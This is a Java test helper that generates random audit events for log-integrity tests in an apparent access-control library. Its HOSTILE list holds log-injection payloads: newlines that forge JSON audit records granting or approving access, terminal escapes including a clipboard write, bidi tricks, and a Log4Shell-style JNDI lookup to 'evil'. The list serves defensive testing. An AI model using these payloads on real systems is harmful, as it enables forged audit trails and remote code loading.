package dev.jitguard.audit;

import dev.jitguard.event.AuditEvent;
import dev.jitguard.event.AuditEventType;
import dev.jitguard.GrantId;
import dev.jitguard.Privilege;
import dev.jitguard.ReasonCode;
import dev.jitguard.RequestId;
import java.time.Duration;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;

/** Random but reproducible audit events, hostile text included, for the generated-log tests. */
final class RandomEvents {
  /** Texts that try to forge or hide a line: line breaks, terminal escapes, bidi, a fake JSON record, NUL, DEL. */
  static final List<String> HOSTILE = List.of(
      "INC-1: fix\n{\"v\":1,\"seq\":2,\"type\":\"GRANTED\",\"subject\":\"root\"}\r\nmore",
      "\u001b[31mRED\u001b[0m \u001b[2J\u001b]52;c;Y2xpcGJvYXJk\u0007 cleared",
      "approve \u202Etxt.exe\u202C please \u2066isolate\u2069",
      "quote \" backslash \\ tab \t nul \u0000 del \u007f",
      "line\u2028separator\u2029paragraph \u0085 next-line",
      "emoji \uD83D\uDE00 and lone surrogate \uD800 and \uDC00",
      "\"}\n{\"v\":1,\"seq\":99,\"prev\":\"" + "0".repeat(64) + "\",\"type\":\"APPROVED\"}",
      "${jndi:ldap://evil/x} %s%n %n");

  private static final AuditEventType[] TYPES = AuditEventType.values();
  private static final ReasonCode[] REASONS = ReasonCode.values();
  private static final String[] PEOPLE = {"alice", "bob", "carol", "dave", "policy", "system"};
  private static final String[] PRIVILEGES = {"db.prod.write", "payments.refund", "logs.read", "customers.erase"};

  private final Random random;
  private Instant time;
  private int n;

  RandomEvents(Random random, Instant start) {
    this.random = random;
    this.time = start;
  }

  AuditEvent next() {
    time = time.plusMillis(random.nextInt(5000));
    AuditEventType type = TYPES[random.nextInt(TYPES.length)];
    AuditEvent.Builder b = AuditEvent.builder(type, time)
        .subject(PEOPLE[random.nextInt(4)])
        .privilege(Privilege.of(PRIVILEGES[random.nextInt(PRIVILEGES.length)]));
    if (random.nextBoolean()) {
      b.requestId(RequestId.of(hex()));
    }
    if (random.nextInt(3) == 0) {
      b.grantId(GrantId.of(hex()));
    }
    if (random.nextBoolean()) {
      b.actor(PEOPLE[random.nextInt(PEOPLE.length)]);
    }
    if (random.nextBoolean()) {
      b.reason(REASONS[random.nextInt(REASONS.length)]);
    }
    if (random.nextBoolean()) {
      b.policyVersion("v" + random.nextInt(10));
    }
    if (type == AuditEventType.USES || type == AuditEventType.CHECKS_DENIED) {
      b.count(1 + random.nextInt(100_000));
    }
    if (random.nextInt(3) == 0) {
      b.detail("duration", Duration.ofMinutes(1 + random.nextInt(120)));
    }
    if (random.nextInt(5) == 0) {
      b.detail("action", "OrderService.refund(OrderId,Money)")
          .detail("argument_digest", "sha256:" + hex() + hex());
    }
    // Unique text per event, so that no two records of a log are equal (a swap always changes the log).
    String text = "event " + (n++) + " " + Long.toHexString(random.nextLong());
    if (random.nextInt(4) == 0) {
      text += " " + HOSTILE.get(random.nextInt(HOSTILE.size()));
    }
    return b.text(text).build();
  }

  private String hex() {
    byte[] b = new byte[16];
    random.nextBytes(b);
    return HexFormat.of().formatHex(b);
  }
}
